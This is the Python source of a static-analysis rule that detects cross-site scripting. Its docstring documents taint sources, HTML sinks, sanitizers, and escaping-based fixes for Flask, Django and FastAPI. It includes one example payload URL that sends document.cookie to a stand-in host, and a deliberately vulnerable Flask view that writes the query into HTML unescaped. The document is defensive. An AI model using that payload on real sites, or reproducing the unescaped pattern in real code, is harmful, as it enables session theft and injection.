"""# Request data written into an HTML response without escaping

## What it does
Reports request data (query strings, form and JSON bodies, headers, cookies, uploaded files, route
parameters) that reaches an HTML response without being escaped: the return value of a Flask view
and `flask.make_response()`, Django's `HttpResponse`, the `HTMLResponse` of Starlette and FastAPI,
and values marked as safe markup with `markupsafe.Markup()` or Django's `mark_safe()`.

The finding carries the path from the source to the sink step by step, with the file and line of
each step, across functions and modules. It stays quiet when the value went through `html.escape()`,
`markupsafe.escape()`, `django.utils.html.escape()` or `conditional_escape()`, or an HTML sanitizer
(`nh3.clean()`, `bleach.clean()`), for constant strings and for flows that only exist through a dead
branch. Like every taint rule, it treats as clean the values converted to a number, `UUID`,
`Decimal`, date or IPv4, and values checked before the sink against a constant allow-list (`if
value not in ALLOWED: abort(400)`) or a full-match regular expression. JSON responses are not
reported.

It follows the data into template files too. A view that renders a template by name (Django's
`render()`, `render_to_string()`, `TemplateResponse`, a class-based view's `get_context_data()`
with its `template_name`; Flask's `render_template()`; Starlette and FastAPI's
`Jinja2Templates.TemplateResponse()`) is reported when a context variable filled from request data
is printed unescaped by that template: through the `|safe` or `|safeseq` filter, or inside an
`{% autoescape off %}` (Jinja2: `false`) block, in the template itself or in one it includes or
extends. The trace ends at the template's line. Templates are looked up by name under the
project's `templates/` and `jinja2/` directories; variables the template prints normally are
auto-escaped and not reported, and `{{ value|escape|safe }}` is escaped first.

## Why it matters
A link like `/search?q=<script>fetch("//evil.example/?c="+document.cookie)</script>` runs the
attacker's script in your origin for whoever clicks it: it reads the page and any CSRF token,
makes requests as the user (change e-mail, then reset the password), reads cookies that lack
`HttpOnly`, and shows a convincing fake login form on your real domain. Flask sends a `str`
returned from a view as `text/html`, and Django's `HttpResponse` defaults to `text/html`, so a
string concatenation is all it takes. `Markup()` and `mark_safe()` switch escaping off on purpose:
applied to request data, they are the bug.

## Example
```python
from flask import Flask, request

app = Flask(__name__)


@app.get("/search")
def search():
    query = request.args.get("q", "")
    items = "".join(f"<li>{p.name}</li>" for p in Product.search(query))
    return f"<h1>Results for {query}</h1><ul>{items}</ul>"
```

## Use instead
Render through a template, which escapes every `{{ }}` in `.html` files:
```python
from flask import Flask, render_template, request

app = Flask(__name__)


@app.get("/search")
def search():
    query = request.args.get("q", "")
    return render_template("search.html", query=query, products=Product.search(query))
```
```html
<h1>Results for {{ query }}</h1>
<ul>{% for product in products %}<li>{{ product.name }}</li>{% endfor %}</ul>
```
For a small fragment built in code, escape each value (`markupsafe.escape(query)`) or, in Django,
use `format_html("<h1>Results for {}</h1>", query)`, which escapes its arguments.

## Alternatives and trade-offs
- **Auto-escaping templates** (Jinja in Flask for `.html` files, Django templates) are the default
  answer: escaping happens everywhere unless someone writes `|safe` or `{% autoescape off %}`.
- **Explicit escaping** (`escape()`, `format_html()`) for fragments built in Python. It works, but
  every new code path must remember it; prefer templates for anything larger than a line.
- **Context matters**: HTML escaping protects element content and quoted attributes only. Inside
  `<script>`, `on*=` handlers, `style` or `href="javascript:..."`, pass data with Django's
  `json_script` or Jinja's `|tojson`, and validate URL schemes.
- **Rich text from users** needs an HTML sanitizer with an allow-list of tags, such as `nh3`
  (`bleach` is deprecated), applied when rendering.
- **JSON APIs**: return `jsonify()` / `JsonResponse`, not HTML, and send
  `X-Content-Type-Options: nosniff` so browsers do not guess.
- **Content Security Policy** with nonces (`django-csp`, `flask-talisman`) limits the damage of a
  miss; it does not replace escaping. Stored XSS (data saved earlier, then rendered) is not a
  request-to-response flow and needs the same escaping at render time.

## Libraries
MarkupSafe, Jinja2, Django templates with `format_html()` and `json_script`, `nh3`, `django-csp`,
`flask-talisman`.

## References
- https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html
- https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss
- https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html
- https://cwe.mitre.org/data/definitions/79.html
"""

from __future__ import annotations

from scrutiny.finding import Confidence, Severity
from scrutiny.rule import Rule, TaintSpec

RULE = Rule(
    code="SEC111",
    name="cross-site-scripting",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=(79,),
    owasp=("A03:2021",),
    doc=__doc__ or "",
    taint=TaintSpec(sink_kind="html"),
)
